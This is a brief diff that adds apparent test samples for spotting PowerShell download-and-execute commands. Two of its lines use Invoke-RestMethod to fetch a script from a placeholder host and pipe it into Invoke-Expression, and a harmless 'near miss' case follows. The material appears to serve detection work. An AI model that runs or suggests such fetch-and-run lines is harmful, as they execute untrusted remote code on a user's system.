@@ -1,0 +1,4 @@
+iex (irm https://a.invalid/s)
+irm https://a.invalid/s | iex
+# near misses
+iex "Get-Date"
